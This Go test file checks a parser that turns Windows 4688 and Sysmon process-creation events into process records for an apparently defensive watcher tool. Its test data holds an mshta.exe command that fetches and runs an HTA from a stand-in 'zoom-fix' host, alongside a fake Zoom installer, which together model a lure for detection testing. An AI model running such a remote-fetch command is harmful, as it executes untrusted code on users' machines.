package watch

import (
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"meetguard"
)

func eventText(t testing.TB, name string) string {
	t.Helper()
	text, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// The texts have the shape of real events and the values of a made-up machine.
func TestParseEventXML(t *testing.T) {
	audit, sysmon := eventText(t, "4688.xml"), eventText(t, "sysmon1.xml")
	at := time.Date(2026, 11, 7, 13, 21, 35, 0, time.UTC)
	mshta := meetguard.Process{PID: 0x2bc, PPID: 0xe74, Exe: `C:\Windows\System32\mshta.exe`, User: `PC1\joe`, Started: at.Add(377352500),
		CommandLine: `mshta.exe "https://zoom-fix.example.invalid/a.hta?x=1&y=2" /q`, Args: []string{"mshta.exe", "https://zoom-fix.example.invalid/a.hta?x=1&y=2", "/q"}}
	silent := mshta
	silent.CommandLine, silent.Args = "", nil
	runas := mshta
	runas.User = `PC1\admin`
	cases := []struct {
		name, text string
		want       meetguard.Process
	}{
		{"4688", audit, mshta},
		{"4688 of a policy without command lines", strings.Replace(audit, `mshta.exe "https://zoom-fix.example.invalid/a.hta?x=1&amp;y=2" /q`, "", 1), silent},
		{"4688 for another user", strings.Replace(strings.Replace(audit, "<Data Name='TargetUserName'>-", "<Data Name='TargetUserName'>admin", 1),
			"<Data Name='TargetDomainName'>-", "<Data Name='TargetDomainName'>PC1", 1), runas},
		{"sysmon", sysmon, meetguard.Process{PID: 7842, PPID: 4711, Exe: `C:\Users\joe\Downloads\ZoomInstaller.exe`, User: `PC1\joe`, Started: at.Add(377 * time.Millisecond),
			Cwd: `C:\Users\joe\Downloads\`, CommandLine: `"C:\Users\joe\Downloads\ZoomInstaller.exe" `, Args: []string{`C:\Users\joe\Downloads\ZoomInstaller.exe`}}},
	}
	for _, c := range cases {
		got, err := parseEventXML([]byte(c.text))
		w := c.want
		if err != nil || got.OS != "windows" || got.PID != w.PID || got.PPID != w.PPID || got.Exe != w.Exe || got.User != w.User || got.Cwd != w.Cwd ||
			got.CommandLine != w.CommandLine || !slices.Equal(got.Args, w.Args) || !got.Started.Equal(w.Started) {
			t.Errorf("%s: %+v %v\nwant %+v", c.name, got, err, w)
		}
	}
	for name, text := range map[string]string{
		"nothing": "", "no XML": "Event", "cut": audit[:len(audit)/2], "another number": strings.Replace(audit, ">4688<", ">4689<", 1),
		"another provider": strings.Replace(audit, "Security-Auditing", "Other", 1), "no process": strings.Replace(audit, "0x2bc", "no", 1),
		"no program": strings.Replace(sysmon, "Name='Image'", "Name='Other'", 1),
	} {
		if got, err := parseEventXML([]byte(text)); err == nil {
			t.Errorf("%s is taken: %+v", name, got)
		}
	}
}

func FuzzParseEventXML(f *testing.F) {
	f.Add([]byte(eventText(f, "4688.xml")))
	f.Add([]byte(eventText(f, "sysmon1.xml")))
	f.Fuzz(func(t *testing.T, text []byte) {
		p, err := parseEventXML(text)
		if err == nil && (p.PID <= 0 || p.Exe == "" || len(p.Args) > argsMost) {
			t.Fatalf("launch %+v", p)
		}
	})
}
